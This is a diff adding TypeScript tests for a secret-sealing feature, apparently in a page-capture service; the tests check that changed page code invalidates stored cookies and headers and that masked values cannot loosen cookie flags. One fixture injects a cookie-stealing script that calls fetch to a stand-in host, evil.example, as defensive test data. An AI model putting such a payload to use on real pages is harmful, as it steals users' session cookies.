@@ -83,3 +83,36 @@ describe('sealSecrets with moved secrets', () => {
     });
   });
 });
+
+describe('code added to the page (js, css, waitForFunction) runs beside the stored secrets', () => {
+  const page = (capture: Record<string, string>) => ({ url: 'https://a.example/', capture });
+
+  it('new or changed code moves every cookie, and the headers too when they go to every host; the same or removed code moves nothing', () => {
+    for (const field of ['js', 'css', 'waitForFunction']) {
+      const added = movedSecrets(page({}), page({ [field]: 'x' }));
+      expect(added.cookies).toMatch(new RegExp(`^capture\\.${field} changed, and code added to the page can read a stored cookie`));
+      expect(added.headers).toBeUndefined(); // origin-scoped headers go to the target only, whatever the page loads
+      expect(movedSecrets(page({ [field]: 'x' }), page({ [field]: 'y' })).cookies).toBeDefined();
+      expect(movedSecrets(page({ [field]: 'x', headersScope: 'all' }), page({ [field]: 'y', headersScope: 'all' })).headers)
+        .toMatch(/with headersScope "all" the page's requests to any host carry this stored header/);
+      expect(movedSecrets(page({ [field]: 'x' }), page({ [field]: 'x' }))).toEqual({});
+      expect(movedSecrets(page({ [field]: 'x' }), page({}))).toEqual({});
+    }
+  });
+
+  it('refuses to keep even a cookie bound to its own domain when the page code changed, and says why', () => {
+    const stored = sealSecrets({ cookies: [{ name: 'sid', value: 'secret', domain: 'a.example', path: '/', httpOnly: true }] }, undefined, box, ID);
+    const moved = movedSecrets(page({}), page({ js: "fetch('https://evil.example/?'+document.cookie)" }));
+    expect(() => sealSecrets({ cookies: [{ name: 'sid', value: MASK, domain: 'a.example', path: '/', httpOnly: true }] }, stored, box, ID, moved))
+      .toThrow(expect.objectContaining({ extra: expect.objectContaining({ details: [{ path: 'capture.cookies.0.value', message: expect.stringMatching(/^capture\.js changed/) }] }) }));
+  });
+
+  it('a "••••" cannot loosen a stored cookie: with httpOnly, secure or sameSite changed it stands for nothing', () => {
+    const cookie = { name: 'sid', value: 'secret', domain: 'a.example', path: '/', httpOnly: true, secure: true, sameSite: 'Strict' as const };
+    const stored = sealSecrets({ cookies: [cookie] }, undefined, box, ID);
+    expect(openSecrets(sealSecrets({ cookies: [{ ...cookie, value: MASK }] }, stored, box, ID), box, ID).cookies![0]!.value).toBe('secret');
+    for (const loosened of [{ httpOnly: false }, { secure: false }, { sameSite: 'None' as const }]) {
+      expect(() => sealSecrets({ cookies: [{ ...cookie, value: MASK, ...loosened }] }, stored, box, ID)).toThrow(AppError);
+    }
+  });
+});
